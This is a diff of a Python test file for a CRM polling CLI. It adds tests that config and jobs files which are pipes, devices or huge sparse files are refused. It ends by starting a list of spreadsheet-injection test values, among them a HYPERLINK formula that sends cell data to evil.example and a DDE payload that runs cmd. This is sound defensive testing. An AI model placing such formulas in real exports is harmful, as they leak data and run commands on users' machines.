@@ -366,6 +366,48 @@ def test_cli_errors_about_garbage_files_are_short(fake, tmp_path):
     assert fake.requests == []
 
 
+# --- input files that are not files: pipes, devices, huge sparse files ----------------------
+
+
+def not_a_file(tmp_path, kind: str, name: str):
+    """A path that would hang (a pipe with no writer) or never end (``/dev/zero``)."""
+    path = tmp_path / name
+    if kind == "pipe":
+        os.mkfifo(path)
+    elif kind == "device":
+        path.symlink_to("/dev/zero")
+    else:  # 4 GiB of holes: nothing on disk, a lot in memory
+        with open(path, "wb") as fh:
+            fh.truncate(4 << 30)
+    return path
+
+
+@pytest.mark.parametrize("kind", ["pipe", "device", "huge sparse"])
+def test_a_config_or_jobs_file_that_is_a_pipe_a_device_or_huge_is_refused(fake, tmp_path, kind):
+    orgs = {ORG: zn.OrgCredentials(org=ORG, **fake.org_config())}
+    with pytest.raises(zn.ZcrmError, match="config file .*(regular file|larger than)"):
+        zn.load_orgs(not_a_file(tmp_path, kind, "orgs.toml"))
+    with pytest.raises(zn.ZcrmError, match="jobs file .*(regular file|larger than)"):
+        zn.clean_jobs(str(not_a_file(tmp_path, kind, "jobs.csv")), orgs)
+
+
+@pytest.mark.parametrize("kind", ["pipe", "device"])
+def test_cli_poll_refuses_a_pipe_or_a_device_as_config_or_jobs_in_one_line(fake, tmp_path, kind):
+    config = write_toml(tmp_path / "orgs.toml", {ORG: fake.org_config()})
+    jobs = tmp_path / "jobs.csv"
+    jobs.write_text(f"job_id,org\n{JOBS[0]},{ORG}\n")
+    odd = not_a_file(tmp_path, kind, "odd")
+    env, _ = child_env(tmp_path)
+    out = str(tmp_path / "s.csv")
+    for argv in (["poll", str(odd), "--config", str(config), "--out", out],
+                 ["poll", str(jobs), "--config", str(odd), "--out", out]):  # fmt: skip
+        code, _, err = run_cli(argv, env, timeout_s=30)
+        assert code is not None, f"{argv}: the CLI hung"
+        assert_one_line_error(code, err)
+        assert "not a regular file" in err
+    assert fake.requests == []
+
+
 # --- spreadsheet formulas in server text ----------------------------------------------------
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"details")', "+cmd|' /C calc'!A0", "-2+3",
